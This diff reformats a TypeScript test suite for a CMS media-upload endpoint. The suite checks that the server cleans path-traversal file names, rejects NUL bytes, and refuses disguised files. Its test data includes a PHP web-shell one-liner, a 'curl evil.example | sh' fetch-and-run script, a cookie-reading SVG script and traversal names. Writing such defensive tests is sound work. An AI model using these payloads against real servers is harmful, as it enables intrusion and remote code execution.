@@ -61,12 +61,27 @@ async function answer(res: Response): Promise<Res> {
 }
 
 /** A media upload as the admin form sends it: the data as JSON in `_payload`, then the file. */
-async function upload(data: Buffer | string, name: string, type = 'image/png', options: { method?: string; id?: unknown } = {}) {
+async function upload(
+  data: Buffer | string,
+  name: string,
+  type = 'image/png',
+  options: { method?: string; id?: unknown } = {},
+) {
   const form = new FormData()
   form.append('_payload', JSON.stringify({ alt: 'A picture' }))
-  form.append('file', new Blob([typeof data === 'string' ? data : new Uint8Array(data)], { type }), name)
+  form.append(
+    'file',
+    new Blob([typeof data === 'string' ? data : new Uint8Array(data)], { type }),
+    name,
+  )
   const url = `${server.url}/api/media${options.id === undefined ? '' : `/${options.id}`}`
-  return answer(await fetch(url, { method: options.method ?? 'POST', headers: { Authorization: editorAuth }, body: form }))
+  return answer(
+    await fetch(url, {
+      method: options.method ?? 'POST',
+      headers: { Authorization: editorAuth },
+      body: form,
+    }),
+  )
 }
 
 /** A multipart body written by hand, for what FormData would not send (a raw file name header, a broken body). */
@@ -82,7 +97,10 @@ async function uploadRaw(body: Buffer | string, contentType = 'multipart/form-da
 
 const part = (disposition: string, content: Buffer | string, type?: string) =>
   Buffer.concat([
-    Buffer.from(`--XyZ\r\nContent-Disposition: form-data; ${disposition}\r\n${type ? `Content-Type: ${type}\r\n` : ''}\r\n`, 'latin1'),
+    Buffer.from(
+      `--XyZ\r\nContent-Disposition: form-data; ${disposition}\r\n${type ? `Content-Type: ${type}\r\n` : ''}\r\n`,
+      'latin1',
+    ),
     Buffer.isBuffer(content) ? content : Buffer.from(content),
     Buffer.from('\r\n'),
   ])
@@ -90,10 +108,12 @@ const multipart = (...parts: Buffer[]) => Buffer.concat([...parts, Buffer.from('
 
 const message = (res: Res): string => res.body?.errors?.[0]?.message ?? JSON.stringify(res.body)
 /** Payload's field-level reason for a refused file: `errors[0].data.errors[0].message`. */
-const fileProblem = (res: Res): string | undefined => res.body?.errors?.[0]?.data?.errors?.[0]?.message
+const fileProblem = (res: Res): string | undefined =>
+  res.body?.errors?.[0]?.data?.errors?.[0]?.message
 
 /** Every file under a folder, recursively, as paths relative to it. */
-const filesUnder = (dir: string): string[] => (fs.readdirSync(dir, { recursive: true }) as string[]).sort()
+const filesUnder = (dir: string): string[] =>
+  (fs.readdirSync(dir, { recursive: true }) as string[]).sort()
 /** The test folder around MEDIA_DIR, without the database files that change with every write. */
 const around = () =>
   fs
@@ -126,12 +146,21 @@ describe('file names', () => {
     ]
     for (const [sent, expected] of names) {
       const res = await upload(png, sent)
-      expect({ sent, status: res.status, filename: res.body.doc?.filename }).toEqual({ sent, status: 201, filename: expected })
+      expect({ sent, status: res.status, filename: res.body.doc?.filename }).toEqual({
+        sent,
+        status: 201,
+        filename: expected,
+      })
       const { url, sizes } = res.body.doc
       const served = await fetch(`${server.url}${new URL(url).pathname}`)
       expect(served.status).toBe(200)
       expect(served.headers.get('Content-Type')).toBe('image/png')
-      for (const name of [expected, ...Object.values(sizes as Record<string, { filename: string }>).map((size) => size.filename)]) {
+      for (const name of [
+        expected,
+        ...Object.values(sizes as Record<string, { filename: string }>).map(
+          (size) => size.filename,
+        ),
+      ]) {
         expect(fs.existsSync(path.join(MEDIA_DIR, name))).toBe(true)
       }
     }
@@ -154,7 +183,10 @@ describe('file names', () => {
     )
     expect(encoded.status).toBe(201)
     expect(encoded.body.doc.filename).toBe('evil-g.png')
-    const replaced = await upload(png, '../../../evil-h.png', 'image/png', { method: 'PATCH', id: mediaId })
+    const replaced = await upload(png, '../../../evil-h.png', 'image/png', {
+      method: 'PATCH',
+      id: mediaId,
+    })
     expect(replaced.status).toBe(200)
     expect(replaced.body.doc.filename).toBe('evil-h.png')
     expect(fs.existsSync(path.join(MEDIA_DIR, 'evil-h.png'))).toBe(true)
@@ -169,7 +201,10 @@ describe('file names', () => {
     ]
     for (const [sent, expected] of cases) {
       const res = await upload(png, sent)
-      expect({ status: res.status, filename: res.body.doc?.filename }).toEqual({ status: 201, filename: expected })
+      expect({ status: res.status, filename: res.body.doc?.filename }).toEqual({
+        status: 201,
+        filename: expected,
+      })
     }
     const after = await state()
     expect(after.count).toBe(stored.count + cases.length)
@@ -191,14 +226,21 @@ describe('file names', () => {
     ]
     for (const [data, sent, type, expected] of cases) {
       const res = await upload(data, sent, type)
-      expect({ sent, status: res.status, filename: res.body.doc?.filename }).toEqual({ sent, status: 201, filename: expected })
+      expect({ sent, status: res.status, filename: res.body.doc?.filename }).toEqual({
+        sent,
+        status: 201,
+        filename: expected,
+      })
     }
     expect(filesUnder(MEDIA_DIR).filter((name) => /\.(html|php)$/.test(name))).toEqual([])
   })
 
   it('refuses a NUL byte in the file name header with 400, nothing stored', async () => {
     const res = await uploadRaw(
-      multipart(part('name="_payload"', JSON.stringify({ alt: 'NUL' })), part('name="file"; filename="evil\0.png"', png, 'image/png')),
+      multipart(
+        part('name="_payload"', JSON.stringify({ alt: 'NUL' })),
+        part('name="file"; filename="evil\0.png"', png, 'image/png'),
+      ),
     )
     expect(res.status).toBe(400)
     expect(message(res)).toBe('The multipart body could not be read: Malformed part header.')
@@ -211,7 +253,8 @@ describe('files disguised as images', () => {
     stored = await state()
   })
 
-  const SVG_SCRIPT = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>'
+  const SVG_SCRIPT =
+    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>'
   const DISGUISED: [string, string, string][] = [
     [
       'an HTML page',
@@ -223,10 +266,26 @@ describe('files disguised as images', () => {
       '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>',
       'Invalid MIME type: application/xml.',
     ],
-    ['a PHP script', '<?php system($_GET["cmd"]); ?>', 'File type text/plain (from extension EXT) is not allowed.'],
-    ['a shell script', '#!/bin/sh\ncurl https://evil.example/x | sh\n', 'File type text/plain (from extension EXT) is not allowed.'],
-    ['a text file', 'Just some text.\n', 'File type text/plain (from extension EXT) is not allowed.'],
-    ['an SVG with a script', SVG_SCRIPT, 'Invalid MIME type: image/svg+xml., SVG file contains potentially harmful content.'],
+    [
+      'a PHP script',
+      '<?php system($_GET["cmd"]); ?>',
+      'File type text/plain (from extension EXT) is not allowed.',
+    ],
+    [
+      'a shell script',
+      '#!/bin/sh\ncurl https://evil.example/x | sh\n',
+      'File type text/plain (from extension EXT) is not allowed.',
+    ],
+    [
+      'a text file',
+      'Just some text.\n',
+      'File type text/plain (from extension EXT) is not allowed.',
+    ],
+    [
+      'an SVG with a script',
+      SVG_SCRIPT,
+      'Invalid MIME type: image/svg+xml., SVG file contains potentially harmful content.',
+    ],
   ]
 
   it.each(DISGUISED)(
@@ -237,7 +296,12 @@ describe('files disguised as images', () => {
         ['evil.jpg', 'image/jpeg', 'jpg'],
       ]) {
         const res = await upload(content, name!, type)
-        expect({ name, status: res.status, message: message(res), problem: fileProblem(res) }).toEqual({
+        expect({
+          name,
+          status: res.status,
+          message: message(res),
+          problem: fileProblem(res),
+        }).toEqual({
           name,
           status: 400,
           message: 'The following field is invalid: file',
@@ -249,7 +313,8 @@ describe('files disguised as images', () => {
   )
 
   it('refuses every SVG, even one without a script, as .svg or disguised as .png', async () => {
-    const harmless = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="red"/></svg>'
+    const harmless =
+      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="red"/></svg>'
     for (const [name, type] of [
       ['logo.svg', 'image/svg+xml'],
       ['logo.png', 'image/png'],
@@ -274,7 +339,11 @@ describe('files disguised as images', () => {
       ['a TIFF image', tiff, 'image/tiff'],
     ] as const) {
       const res = await upload(data, 'photo.png', 'image/png')
-      expect({ what, status: res.status, problem: fileProblem(res) }).toEqual({ what, status: 400, problem: `Invalid MIME type: ${mime}.` })
+      expect({ what, status: res.status, problem: fileProblem(res) }).toEqual({
+        what,
+        status: 400,
+        problem: `Invalid MIME type: ${mime}.`,
+      })
     }
     expect(await state()).toEqual(stored)
   })
@@ -290,10 +359,15 @@ describe('files disguised as images', () => {
 describe('size', () => {
   it(`answers an upload over ${UPLOAD_LIMIT_MB} MB with 413 naming the limit, and stores nothing`, async () => {
     stored = await state()
-    const tooLarge = Buffer.concat([png, Buffer.alloc(UPLOAD_LIMIT_MB * 1024 * 1024 + 1 - png.length)])
+    const tooLarge = Buffer.concat([
+      png,
+      Buffer.alloc(UPLOAD_LIMIT_MB * 1024 * 1024 + 1 - png.length),
+    ])
     const res = await upload(tooLarge, 'huge.png')
     expect(res.status).toBe(413)
-    expect(message(res)).toBe(`File size limit has been reached: an upload may be at most ${UPLOAD_LIMIT_MB} MB.`)
+    expect(message(res)).toBe(
+      `File size limit has been reached: an upload may be at most ${UPLOAD_LIMIT_MB} MB.`,
+    )
     expect(await state()).toEqual(stored)
   })
 })
@@ -337,12 +411,18 @@ describe('multipart bodies that cannot be read', () => {
   })
 
   it('answers a multipart body sent to GraphQL with 415 (GraphQL takes JSON), a broken one included', async () => {
-    const bodies = [multipart(part('name="query"', '{ Media { totalDocs } }')), multipart(part('name="_payload"', '{alt: nope'))]
+    const bodies = [
+      multipart(part('name="query"', '{ Media { totalDocs } }')),
+      multipart(part('name="_payload"', '{alt: nope')),
+    ]
     for (const body of bodies) {
       const res = await answer(
         await fetch(`${server.url}/api/graphql`, {
           method: 'POST',
-          headers: { Authorization: editorAuth, 'Content-Type': 'multipart/form-data; boundary=XyZ' },
+          headers: {
+            Authorization: editorAuth,
+            'Content-Type': 'multipart/form-data; boundary=XyZ',
+          },
           body: new Uint8Array(body),
         }),
       )
